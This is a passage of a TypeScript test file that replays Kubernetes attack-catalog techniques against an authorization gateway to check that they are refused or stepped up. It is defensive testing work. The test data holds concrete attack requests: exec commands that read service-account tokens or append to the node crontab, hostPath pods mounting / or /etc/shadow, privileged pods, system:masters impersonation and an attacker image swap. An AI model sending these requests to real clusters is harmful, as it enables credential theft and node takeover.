import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ELSEWHERE, freshSubjects, INSIDE, KUBE, OFFICE, TOKEN_STATES, type TokenState, reason, rules, startBuiltServer, type BuiltServer, type Level } from '../support/built-server.js';
import type { CheckResponse } from '../support/grpc-client.js';
import { KINDS, kindKey, type Message } from '../../src/guardrails/protobuf/schema.js';
import { encodeKube } from '../support/kube-protobuf.js';
import { checkRequest } from '../support/requests.js';
import { http } from '../support/stepup.js';
import { badPod, BADPOD_NAMES, WORKLOAD_KINDS } from '../support/badpods.js';

/**
 * The public Kubernetes attack catalogs, technique by technique, run black-box against the built
 * server with the example policy (test/support/built-server.ts). Each entry names its source
 * (catalog and technique id) and sends the request(s) exactly as that tool does: its user agent,
 * its path and query, its body as it serialises it. Each is sent with the victim's token in the
 * three states an attacker holds it in:
 *
 * - `stolen`: a one-factor token signed in 10 hours ago, used from a network the victim never used
 *   (the risk engine asks a sign-in made there for everything, routine reads included);
 * - `inside`: the same token used from inside the company's network (a compromised pod or host in
 *   `risk.trusted_networks`), where no new network is seen: what stops it is the policy alone;
 * - `remote`: a two-factor token signed in a minute ago (a phishing proxy, a copied kubeconfig
 *   whose refresh still works), used from elsewhere, after the victim's own kubectl used the
 *   same sign-in from the office: the new network asks a sign-in made there (docs/risk.md,
 *   "Context-bound step-up"), which the attacker cannot make;
 * - `laptop`: malware on the victim's own laptop, on the office network, with that fresh
 *   two-factor token, after the victim's own request. What two factors allow is allowed to it
 *   when it speaks as kubectl or with client-go's default agent (peirates does: stepgate counts
 *   every such agent as the engineer's own kind of client); a tool with an agent of its own
 *   (stratus-red-team, CDK's Go-http-client) is a client never proven (`ua_family_change`). That
 *   malware is not otherwise stopped is the risk engine's matter (docs/risk.md, "What is not
 *   stopped"), not the policy's.
 *
 * The answer a security reviewer expects follows from what the technique needs (`Need`): a
 * refusal, a hardware key (never allowed in any state), two factors (the stolen token is stepped
 * up), or nothing beyond the everyday sign-in (harmless: discovery, reads that return no
 * credentials). Each request is sent by a fresh subject, so the answers are the policy's and not
 * a history's.
 */

let server: BuiltServer;
beforeAll(async () => {
  server = await startBuiltServer('catalog');
}, 180_000);
afterAll(async () => {
  await server?.close();
});

const subjects = freshSubjects(() => server.issuer, 'catalog');

/** User agents as each tool sends them. */
const UA = {
  // stratus-red-team sets rest.Config.UserAgent to its prefix and the detonation's UUID.
  stratus: 'stratus-red-team_6f0d9c2e-3b7a-4e51-9d8c-1a2b3c4d5e6f',
  kubectl: 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1',
  // peirates embeds kubectl's command: client-go names the binary it runs as.
  peirates: 'peirates/v0.0.0 (linux/amd64) kubernetes/$Format',
  // CDK builds its requests with net/http and sets no user agent.
  cdk: 'Go-http-client/1.1',
} as const;

type State = TokenState;
const STATES = TOKEN_STATES;

/**
 * What the technique's request needs with the example policy: `deny` refused whatever the sign-in,
 * `aal3` a hardware key (so never allowed with the attacker's token), `aal2` two factors (the
 * stolen one-factor token is stepped up), `routine` nothing beyond the everyday sign-in, `invalid`
 * a request kube-apiserver would not route (refused as request_invalid whoever sends it).
 */
type Need = 'deny' | 'aal3' | 'aal2' | 'routine' | 'invalid';

interface Req {
  method: string;
  path: string;
  body?: unknown;
  /** A body sent as these bytes (Envoy's raw_body), for protobuf. */
  raw?: Uint8Array;
  headers?: Record<string, string>;
}

interface Technique {
  /** Catalog and technique id, as the catalog names it. */
  src: string;
  what: string;
  ua: string;
  req: Req;
  need: Need;
  /** A rule or `guardrail:<code>` the decision names when it is not allowed. */
  by?: string;
  /**
   * A delete in a namespace the victim never used: on the laptop too, the risk engine asks a
   * sign-in made after the namespace was first seen (`unfamiliar_namespace`, no grace for deletes).
   */
  unfamiliar?: true;
}

const JSON_CT = { 'content-type': 'application/json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const STRATEGIC = { 'content-type': 'application/strategic-merge-patch+json' };
/** client-go's SPDY upgrade for exec, attach and port-forward (remotecommand.NewSPDYExecutor). */
const SPDY = { connection: 'Upgrade', upgrade: 'SPDY/3.1', 'x-stream-protocol-version': 'v4.channel.k8s.io' };
/** kubectl 1.30+'s WebSocket exec and attach (a GET: RBAC's verb is get on pods/exec), and 1.31+'s port-forward tunnel. */
const WS = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13', 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', 'sec-websocket-protocol': 'v5.channel.k8s.io, v4.channel.k8s.io' };
const WS_TUNNEL = { ...WS, 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };
const post = (path: string, body: unknown, headers: Record<string, string> = JSON_CT): Req => ({ method: 'POST', path, body, headers });
const get = (path: string): Req => ({ method: 'GET', path });

/** The victim's request in `state`, as Envoy sends it for a request through the gateway. */
async function send(t: Pick<Technique, 'ua' | 'req'>, state: State): Promise<CheckResponse> {
  const s = STATES[state];
  const token = await subjects.tokenOf(s.level, s.age);
  if (s.victim) {
    const own = await server.client.check(checkRequest({ host: KUBE, source: OFFICE, path: '/api/v1/namespaces/dev/pods?limit=500', token, headers: { 'user-agent': UA.kubectl } }));
    expect(reason(own), 'the victim\'s own request').toBe('allowed');
  }
  const body = t.req.body === undefined ? undefined : typeof t.req.body === 'string' ? t.req.body : JSON.stringify(t.req.body);
  const headers = { 'user-agent': t.ua, ...(body !== undefined || t.req.raw ? { 'x-envoy-auth-partial-body': 'false' } : {}), ...t.req.headers };
  return server.client.check(checkRequest({ host: KUBE, source: s.source, method: t.req.method, path: t.req.path, token, headers, body, rawBody: t.req.raw }));
}

const NOT_ALLOWED = ['acr_insufficient', 'auth_too_old', 'policy_deny', 'risk_deny'];

/** kubectl, or client-go's default agent ("<binary>/<version> (<os>/<arch>) kubernetes/<commit>"). */
const interactive = (ua: string) => ua.startsWith('kubectl/') || /^[\w.-]+\/\S+ \([\w.-]+\/[\w.-]+\) kubernetes\/\S+$/.test(ua);

/** The answer each state must get for a technique that needs `need`. */
function judge(t: Technique, state: State, res: CheckResponse): void {
  const r = reason(res);
  const where = `${t.src}: ${t.what} (${state}) → ${r} [${rules(res)}]`;
  if (t.need === 'deny') expect.soft(r, where).toBe('policy_deny');
  else if (t.need === 'invalid') expect.soft(r, where).toBe('request_invalid');
  else if (t.need === 'aal3' || state === 'stolen' || state === 'remote' || (t.need === 'aal2' && state === 'inside') || (state === 'laptop' && (!interactive(t.ua) || t.unfamiliar))) expect.soft(NOT_ALLOWED, where).toContain(r);
  else expect.soft(r, where).toBe('allowed');
  if (r !== 'allowed' && r !== 'request_invalid' && t.by) expect.soft(rules(res), where).toContain(t.by);
}

function run(list: Technique[]): void {
  it.each(list.map((t) => [`${t.src}: ${t.what}`, t] as const))('%s', async (_name, t) => {
    for (const state of Object.keys(STATES) as State[]) judge(t, state, await send(t, state));
  });
}

// --- DataDog/stratus-red-team: every k8s.* technique (v2/internal/attacktechniques/k8s) --------

const STRATUS_NS = 'stratus-red-team-qxkzvmwa';
const adminRole = { kind: 'ClusterRole', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'stratus-red-team-clusterrole', creationTimestamp: null }, rules: [{ verbs: ['*'], apiGroups: ['*'], resources: ['*'] }] };
const stratusSa = { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'stratus-red-team-serviceaccount', creationTimestamp: null }, automountServiceAccountToken: true };
const stratusCrb = { kind: 'ClusterRoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'stratus-red-team-crb', creationTimestamp: null }, subjects: [{ kind: 'ServiceAccount', name: 'stratus-red-team-serviceaccount', namespace: 'kube-system' }], roleRef: { apiGroup: '', kind: 'ClusterRole', name: 'stratus-red-team-clusterrole' } };
const csr = {
  kind: 'CertificateSigningRequest',
  apiVersion: 'certificates.k8s.io/v1',
  metadata: { name: 'stratus-red-team-csr', creationTimestamp: null },
  spec: { request: Buffer.from('-----BEGIN CERTIFICATE REQUEST-----\nMIIBVjCBwAIBADAjMSEwHwYDVQQDExhzeXN0ZW06a3ViZS1jb250cm9sbGVyLW1hbmFnZXI=\n-----END CERTIFICATE REQUEST-----\n').toString('base64'), signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'], groups: ['system:authenticated'] },
  status: {},
};
const approved = { ...csr, status: { conditions: [{ type: 'Approved', status: 'True', reason: 'User activation', message: 'This CSR was approved', lastUpdateTime: '2026-12-04T15:00:00Z', lastTransitionTime: null }] } };
const tokenRequest = (seconds: number | null) => ({ kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: null, expirationSeconds: seconds, boundObjectRef: null }, status: { token: '', expirationTimestamp: null } });
const stratusPod = (name: string, container: Record<string, unknown>, volumes?: unknown[]) => ({
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name, namespace: STRATUS_NS, creationTimestamp: null, labels: { 'datadoghq.com/stratus-red-team': 'true' } },
  spec: { containers: [{ name: 'busybox', image: 'busybox:stable', resources: {}, ...container }], ...(volumes ? { volumes } : {}) },
  status: {},
});
const execQuery = (cmd: string[]) => `${cmd.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&stdout=true`;

const stratus: Technique[] = [
    { src: 'stratus k8s.credential-access.dump-secrets', what: 'LIST /api/v1/secrets across all namespaces', ua: UA.stratus, req: get('/api/v1/secrets?limit=1000'), need: 'aal2', by: 'secrets' },
    { src: 'stratus k8s.credential-access.steal-serviceaccount-token', what: 'exec cat of the pod\'s service-account token', ua: UA.stratus, req: { method: 'POST', path: `/api/v1/namespaces/${STRATUS_NS}/pods/stratus-red-team-ssat-pod/exec?${execQuery(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'])}`, headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'stratus k8s.persistence.create-admin-clusterrole', what: 'a ClusterRole granting * on *', ua: UA.stratus, req: post('/apis/rbac.authorization.k8s.io/v1/clusterroles', adminRole), need: 'aal3', by: 'rbac-writes' },
    { src: 'stratus k8s.persistence.create-admin-clusterrole', what: 'its ServiceAccount in kube-system', ua: UA.stratus, req: post('/api/v1/namespaces/kube-system/serviceaccounts', stratusSa), need: 'aal2', by: 'system-writes' },
    { src: 'stratus k8s.persistence.create-admin-clusterrole', what: 'the ClusterRoleBinding to it', ua: UA.stratus, req: post('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', stratusCrb), need: 'aal3', by: 'rbac-writes' },
    { src: 'stratus k8s.persistence.create-admin-clusterrole', what: 'its token Secret read in kube-system', ua: UA.stratus, req: get('/api/v1/namespaces/kube-system/secrets/stratus-red-team-serviceaccount-token-x7k2p'), need: 'aal3', by: 'system-secrets' },
    { src: 'stratus k8s.persistence.create-client-certificate', what: 'a CSR for system:kube-controller-manager', ua: UA.stratus, req: post('/apis/certificates.k8s.io/v1/certificatesigningrequests', csr), need: 'aal3', by: 'cluster-control' },
    { src: 'stratus k8s.persistence.create-client-certificate', what: 'the CSR approved by its requester', ua: UA.stratus, req: { method: 'PUT', path: '/apis/certificates.k8s.io/v1/certificatesigningrequests/stratus-red-team-csr/approval', body: approved, headers: JSON_CT }, need: 'aal3', by: 'cluster-control' },
    { src: 'stratus k8s.persistence.create-client-certificate', what: 'the issued certificate read back', ua: UA.stratus, req: get('/apis/certificates.k8s.io/v1/certificatesigningrequests/stratus-red-team-csr'), need: 'routine' },
    { src: 'stratus k8s.persistence.create-token', what: 'a one-year TokenRequest for kube-system\'s clusterrole-aggregation-controller', ua: UA.stratus, req: post('/api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller/token', tokenRequest(946_080_000)), need: 'aal3', by: 'service-account-tokens' },
    { src: 'stratus k8s.privilege-escalation.hostpath-volume', what: 'a pod mounting the node\'s / at /host', ua: UA.stratus, req: post(`/api/v1/namespaces/${STRATUS_NS}/pods`, stratusPod('k8s.privilege-escalation.hostpath-volume', { command: ['cat', '/host/etc/passwd'], volumeMounts: [{ name: 'hostfs', mountPath: '/host' }] }, [{ name: 'hostfs', hostPath: { path: '/' } }])), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'stratus k8s.privilege-escalation.nodes-proxy', what: 'a token for its service account bound to nodes/proxy', ua: UA.stratus, req: post(`/api/v1/namespaces/${STRATUS_NS}/serviceaccounts/stratus-red-team-np-sa/token`, tokenRequest(null)), need: 'aal3', by: 'service-account-tokens' },
    { src: 'stratus k8s.privilege-escalation.nodes-proxy', what: 'the kubelet\'s /runningpods/ through the node proxy', ua: UA.stratus, req: get('/api/v1/nodes/ip-10-0-1-23.eu-west-1.compute.internal/proxy/runningpods/'), need: 'deny', by: 'no-node-proxy' },
    { src: 'stratus k8s.privilege-escalation.privileged-pod', what: 'a privileged pod', ua: UA.stratus, req: post(`/api/v1/namespaces/${STRATUS_NS}/pods`, stratusPod('k8s.privilege-escalation.privileged-pod', { securityContext: { privileged: true } })), need: 'aal3', by: 'guardrail:privileged_container' },
];

describe('stratus-red-team (8 techniques, 14 requests)', () => {
  run(stratus);
});

// --- BishopFox/badPods: the eight pods as every workload kind ---------------------------------

// The eight pods of badPods as every workload kind (test/support/badpods.ts): kubectl apply -f
// sends each document as JSON, with the manifest in the last-applied annotation.
const ROUTES: Record<string, string> = {
  Pod: '/api/v1/namespaces/default/pods',
  Service: '/api/v1/namespaces/default/services',
  ReplicationController: '/api/v1/namespaces/default/replicationcontrollers',
  Deployment: '/apis/apps/v1/namespaces/default/deployments',
  DaemonSet: '/apis/apps/v1/namespaces/default/daemonsets',
  ReplicaSet: '/apis/apps/v1/namespaces/default/replicasets',
  StatefulSet: '/apis/apps/v1/namespaces/default/statefulsets',
  Job: '/apis/batch/v1/namespaces/default/jobs',
};
const BADPOD_CODE: Record<string, string> = {
  'everything-allowed': 'guardrail:privileged_container',
  'priv-and-hostpid': 'guardrail:privileged_container',
  priv: 'guardrail:privileged_container',
  hostpath: 'guardrail:host_path_volume',
  hostpid: 'guardrail:host_namespace',
  hostnetwork: 'guardrail:host_namespace',
  hostipc: 'guardrail:host_namespace',
};

function applied(doc: Record<string, unknown>): Req {
  const kind = doc.kind as string;
  const [group, version] = (doc.apiVersion as string).includes('/') ? (doc.apiVersion as string).split('/') : ['', doc.apiVersion as string];
  const base = kind === 'CronJob' ? `/apis/${group}/${version}/namespaces/default/cronjobs` : ROUTES[kind]!;
  const meta = doc.metadata as Record<string, unknown>;
  const body = { ...doc, metadata: { ...meta, annotations: { 'kubectl.kubernetes.io/last-applied-configuration': `${JSON.stringify(doc)}\n` }, namespace: 'default' } };
  return post(`${base}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, body);
}

const badPods: Technique[] = BADPOD_NAMES.flatMap((pod) =>
  WORKLOAD_KINDS.flatMap((workload) =>
    badPod(pod, workload).map((doc) => {
      const kind = doc.kind as string;
      // A Service (beside the StatefulSets) is no pod; nothing-allowed is an ordinary pod, which
      // needs what a pod created by hand needs (pod-creates), or a DaemonSet (daemonset-creates).
      const need: Need = kind === 'Service' ? 'routine' : pod !== 'nothing-allowed' ? 'aal3' : kind === 'Pod' || kind === 'DaemonSet' ? 'aal2' : 'routine';
      return { src: `badPods ${pod}`, what: `${kind} (${pod} as ${workload})`, ua: UA.kubectl, req: applied(doc), need, by: need === 'aal3' ? BADPOD_CODE[pod] : undefined };
    }),
  ),
);

describe('badPods (8 pods × 8 workload kinds)', () => {
  it('holds the 64 pods and workloads, 72 documents', () => {
    expect(badPods.filter((t) => !t.what.startsWith('Service'))).toHaveLength(64);
    expect(badPods).toHaveLength(72);
  });
  run(badPods);
});

/**
 * `obj` without the fields the decoder's table does not hold (a command, a volume mount, a tty):
 * what the guardrails read of a protobuf body is exactly the table's fields, so the encoder, which
 * refuses an unknown key, is given those.
 */
function prune(obj: Record<string, unknown>, schema: Message): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const f of schema.fields.values()) {
    if (f.kind === 'message' && f.inline) Object.assign(out, prune(obj, f.message));
    else if (Object.hasOwn(obj, f.name) && obj[f.name] !== null) {
      const v = obj[f.name];
      out[f.name] = f.kind !== 'message' ? v : f.repeated ? (v as Record<string, unknown>[]).map((i) => prune(i, f.message)) : prune(v as Record<string, unknown>, f.message);
    }
  }
  return out;
}

function protobufOf(doc: Record<string, unknown>): Uint8Array {
  const schema = KINDS.get(kindKey(String(doc.apiVersion), String(doc.kind)))!;
  return encodeKube({ apiVersion: doc.apiVersion, kind: doc.kind, ...prune(doc, schema) });
}

// A Go client configured for protobuf (rest.Config.ContentType, as controllers and operators are)
// sends the same manifests as Kubernetes' protobuf encoding.
describe('badPods as a protobuf client sends them (8 pods × 7 workload kinds)', () => {
  run(
    badPods
      .filter((t) => !t.what.startsWith('Service') && !t.what.startsWith('CronJob'))
      .map((t) => {
        const doc = t.req.body as Record<string, unknown>;
        return { ...t, what: `${t.what}, protobuf`, req: { ...t.req, body: undefined, raw: protobufOf(doc), headers: { 'content-type': 'application/vnd.kubernetes.protobuf' } } };
      }),
  );
});

// --- DataDog/KubeHound: the attack edges that are an API request (docs/reference/attacks) ------

const podWith = (name: string, ns: string, spec: Record<string, unknown>) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: ns }, spec: { containers: [{ name: 'c', image: 'ubuntu:22.04', command: ['sleep', 'infinity'] }], ...spec } });
const container = (extra: Record<string, unknown>) => ({ containers: [{ name: 'c', image: 'ubuntu:22.04', command: ['sleep', 'infinity'], ...extra }] });
const hostPathPod = (name: string, path: string, type?: string) => podWith(name, 'dev', { ...container({ volumeMounts: [{ name: 'h', mountPath: '/host' }] }), volumes: [{ name: 'h', hostPath: { path, ...(type ? { type } : {}) } }] });

const kubehound: Technique[] = [
    { src: 'KubeHound POD_CREATE', what: 'a pod created by hand (kubectl apply -f)', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', podWith('x', 'dev', {})), need: 'aal2', by: 'pod-creates' },
    { src: 'KubeHound POD_PATCH', what: 'a running pod\'s image swapped for the attacker\'s (the only mutable container field)', ua: UA.kubectl, req: { method: 'PATCH', path: '/api/v1/namespaces/dev/pods/web-0?fieldManager=kubectl-patch', body: { spec: { containers: [{ name: 'web', image: 'ghcr.io/attacker/implant:1' }] } }, headers: STRATEGIC }, need: 'aal2', by: 'guardrail:image_registry_not_allowed' },
    { src: 'KubeHound POD_EXEC', what: 'kubectl exec -it … -- /bin/bash', ua: UA.kubectl, req: { method: 'POST', path: `/api/v1/namespaces/dev/pods/web-0/exec?${execQuery(['/bin/bash'])}&stdin=true&tty=true&container=web`, headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'KubeHound POD_EXEC', what: 'kubectl 1.32 exec over WebSocket (a GET)', ua: UA.kubectl, req: { method: 'GET', path: `/api/v1/namespaces/dev/pods/web-0/exec?${execQuery(['/bin/bash'])}&stdin=true&stderr=true&tty=true&container=web`, headers: WS }, need: 'aal2', by: 'pod-shell' },
    { src: 'KubeHound POD_EXEC', what: 'kubectl 1.32 exec over WebSocket into kube-system', ua: UA.kubectl, req: { method: 'GET', path: `/api/v1/namespaces/kube-system/pods/kube-proxy-x2x7q/exec?${execQuery(['cat', '/var/lib/kube-proxy/kubeconfig.conf'])}&stderr=true`, headers: WS }, need: 'aal3', by: 'system-pod-access' },
    { src: 'KubeHound POD_ATTACH', what: 'kubectl 1.32 attach over WebSocket', ua: UA.kubectl, req: { method: 'GET', path: '/api/v1/namespaces/dev/pods/web-0/attach?container=web&stdin=true&stdout=true&tty=true', headers: WS }, need: 'aal2', by: 'pod-shell' },
    { src: 'KubeHound ENDPOINT_EXPLOIT', what: 'kubectl 1.32 port-forward over a WebSocket tunnel', ua: UA.kubectl, req: { method: 'GET', path: '/api/v1/namespaces/dev/pods/web-0/portforward?ports=5432', headers: WS_TUNNEL }, need: 'aal2', by: 'pod-shell' },
    { src: 'KubeHound POD_ATTACH', what: 'kubectl attach -it', ua: UA.kubectl, req: { method: 'POST', path: '/api/v1/namespaces/dev/pods/web-0/attach?container=web&stdin=true&stdout=true&tty=true', headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'KubeHound CONTAINER_ATTACH', what: 'kubectl exec into another container of the pod', ua: UA.kubectl, req: { method: 'POST', path: `/api/v1/namespaces/dev/pods/web-0/exec?${execQuery(['sh'])}&stdin=true&tty=true&container=sidecar`, headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'KubeHound ROLE_BIND', what: 'a RoleBinding to the admin ClusterRole', ua: UA.kubectl, req: post('/apis/rbac.authorization.k8s.io/v1/namespaces/dev/rolebindings', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'x', namespace: 'dev' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'admin' }, subjects: [{ kind: 'User', name: 'mallory@example.com' }] }), need: 'aal3', by: 'rbac-writes' },
    { src: 'KubeHound ROLE_BIND', what: 'a ClusterRoleBinding to cluster-admin', ua: UA.kubectl, req: post('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'x' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'dev' }] }), need: 'aal3', by: 'guardrail:rbac_cluster_admin_binding' },
    { src: 'KubeHound TOKEN_LIST', what: 'kubectl get secrets -o json', ua: UA.kubectl, req: get('/api/v1/namespaces/dev/secrets?limit=500'), need: 'aal2', by: 'secrets' },
    { src: 'KubeHound TOKEN_BRUTEFORCE', what: 'a service-account token Secret guessed by name', ua: UA.kubectl, req: get('/api/v1/namespaces/dev/secrets/default-token-7xq2v'), need: 'aal2', by: 'secrets' },
    { src: 'KubeHound IDENTITY_IMPERSONATE', what: 'kubectl --as=null --as-group=system:masters', ua: UA.kubectl, req: { method: 'GET', path: '/api/v1/namespaces/kube-system/secrets', headers: { 'impersonate-user': 'null', 'impersonate-group': 'system:masters' } }, need: 'aal3', by: 'guardrail:impersonation_privileged' },
    { src: 'KubeHound PERMISSION_DISCOVER', what: 'kubectl auth can-i --list', ua: UA.kubectl, req: post('/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', { kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', spec: { namespace: 'dev' } }), need: 'routine' },
    { src: 'KubeHound CE_NSENTER', what: 'a privileged pod in the host PID namespace', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', { hostPID: true, ...container({ securityContext: { privileged: true } }) })), need: 'aal3', by: 'guardrail:privileged_container' },
    { src: 'KubeHound CE_PRIV_MOUNT', what: 'a privileged pod that mounts the node\'s disk', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', container({ securityContext: { privileged: true }, command: ['sh', '-c', 'mount /dev/nvme0n1p1 /mnt && sleep infinity'] }))), need: 'aal3', by: 'guardrail:privileged_container' },
    { src: 'KubeHound EXPLOIT_HOST_READ', what: 'a pod mounting /etc/shadow read-only', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', { ...container({ volumeMounts: [{ name: 'h', mountPath: '/host/shadow', readOnly: true }] }), volumes: [{ name: 'h', hostPath: { path: '/etc/shadow', type: 'File' } }] })), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'KubeHound EXPLOIT_HOST_TRAVERSE', what: 'a pod mounting the kubelet\'s pods directory (every pod\'s projected token)', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', hostPathPod('x', '/var/lib/kubelet/pods', 'Directory')), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'KubeHound CE_MODULE_LOAD', what: 'a pod with CAP_SYS_MODULE', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', container({ securityContext: { capabilities: { add: ['SYS_MODULE'] } } }))), need: 'aal3', by: 'guardrail:capability_added' },
    { src: 'KubeHound CE_SYS_PTRACE', what: 'a pod with CAP_SYS_PTRACE and hostPID', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', podWith('x', 'dev', { hostPID: true, ...container({ securityContext: { capabilities: { add: ['SYS_PTRACE'] } } }) })), need: 'aal3', by: 'guardrail:capability_added' },
    { src: 'KubeHound CE_UMH_CORE_PATTERN', what: 'a pod mounting /proc/sys/kernel', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', hostPathPod('x', '/proc/sys/kernel')), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'KubeHound CE_VAR_LOG_SYMLINK', what: 'a pod mounting /var/log', ua: UA.kubectl, req: post('/api/v1/namespaces/dev/pods', hostPathPod('x', '/var/log')), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'KubeHound CE_VAR_LOG_SYMLINK', what: 'the kubelet\'s /logs/ through the node proxy', ua: 'curl/8.5.0', req: get('/api/v1/nodes/worker-1/proxy/logs/root_link/var/lib/kubelet/pods/'), need: 'deny', by: 'no-node-proxy' },
    { src: 'KubeHound EXPLOIT_CONTAINERD_SOCK', what: 'a Deployment mounting containerd\'s socket', ua: UA.kubectl, req: post('/apis/apps/v1/namespaces/dev/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'x' }, spec: { selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec: hostPathPod('x', '/run/containerd/containerd.sock', 'Socket').spec } } }), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'KubeHound EXPLOIT_HOST_WRITE', what: 'a Job mounting /etc/kubernetes/manifests (a static pod)', ua: UA.kubectl, req: post('/apis/batch/v1/namespaces/dev/jobs', { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'x' }, spec: { template: { spec: { ...hostPathPod('x', '/etc/kubernetes/manifests').spec, restartPolicy: 'Never' } } } }), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'KubeHound SHARE_PS_NAMESPACE', what: 'a Deployment sharing its pod\'s process namespace (within the pod, not the node)', ua: UA.kubectl, req: post('/apis/apps/v1/namespaces/dev/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'x' }, spec: { selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec: { shareProcessNamespace: true, ...container({}) } } } }), need: 'routine' },
];

describe('KubeHound attack edges (22 of 26; IDENTITY_ASSUME, TOKEN_STEAL, VOLUME_ACCESS and VOLUME_DISCOVER happen on the node; 27 requests)', () => {
  run(kubehound);
});

// --- inguardians/peirates: its menu actions that reach the API server ---------------------------

describe('peirates (13 actions)', () => {
  run([
    { src: 'peirates [1] list-sa', what: 'service accounts listed', ua: UA.peirates, req: get('/api/v1/namespaces/dev/serviceaccounts'), need: 'routine' },
    { src: 'peirates [2] list-ns', what: 'namespaces listed', ua: UA.peirates, req: get('/api/v1/namespaces'), need: 'routine' },
    { src: 'peirates [4] dump-pod-info', what: 'every pod of every namespace as JSON', ua: UA.peirates, req: get('/api/v1/pods?limit=500'), need: 'routine' },
    { src: 'peirates [10] list-secrets', what: 'the namespace\'s Secrets', ua: UA.peirates, req: get('/api/v1/namespaces/dev/secrets?limit=500'), need: 'aal2', by: 'secrets' },
    { src: 'peirates [11] secret-to-sa', what: 'a service-account token Secret read', ua: UA.peirates, req: get('/api/v1/namespaces/dev/secrets/builder-token-4kz8m'), need: 'aal2', by: 'secrets' },
    { src: 'peirates [11] secret-to-sa', what: 'a kube-system service-account token Secret read', ua: UA.peirates, req: get('/api/v1/namespaces/kube-system/secrets/clusterrole-aggregation-controller-token-4kz8m'), need: 'aal3', by: 'system-secrets' },
    { src: 'peirates [20] attack-pod-hostpath-mount', what: 'its attack pod (kubectl apply of its YAML: the node\'s / at /root)', ua: UA.peirates, req: post('/api/v1/namespaces/dev/pods?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', { apiVersion: 'v1', kind: 'Pod', metadata: { annotations: null, labels: null, name: 'attack-pod-qwerty', namespace: 'dev' }, spec: { containers: [{ image: 'docker.io/library/nginx:1.25', imagePullPolicy: 'IfNotPresent', name: 'attack-container', command: ['/bin/sh', '-c', 'sleep infinity'], volumeMounts: [{ mountPath: '/root', name: 'mount-fsroot-into-slashroot' }] }], restartPolicy: 'Never', volumes: [{ name: 'mount-fsroot-into-slashroot', hostPath: { path: '/' } }] } }), need: 'aal3', by: 'guardrail:host_path_volume' },
    { src: 'peirates [20] attack-pod-hostpath-mount', what: 'its exec writing the node\'s crontab', ua: UA.peirates, req: { method: 'POST', path: `/api/v1/namespaces/dev/pods/attack-pod-qwerty/exec?${execQuery(['/bin/sh', '-c', 'cat >> /root/etc/crontab'])}&stdin=true&tty=true`, headers: SPDY }, need: 'aal2', by: 'pod-shell' },
    { src: 'peirates [21] exec-via-api', what: 'a token-dumping command in every pod of kube-system', ua: UA.peirates, req: { method: 'POST', path: `/api/v1/namespaces/kube-system/pods/coredns-5d78c9869d-x2x7q/exec?${execQuery(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'])}`, headers: SPDY }, need: 'aal3', by: 'system-pod-access' },
    { src: 'peirates [22] exec-via-kubelet', what: 'the kubelet\'s /run through the node proxy', ua: UA.peirates, req: post('/api/v1/nodes/worker-1/proxy/run/kube-system/kube-proxy-x2x7q/kube-proxy', 'cmd=cat+/var/run/secrets/kubernetes.io/serviceaccount/token', { 'content-type': 'application/x-www-form-urlencoded' }), need: 'deny', by: 'no-node-proxy' },
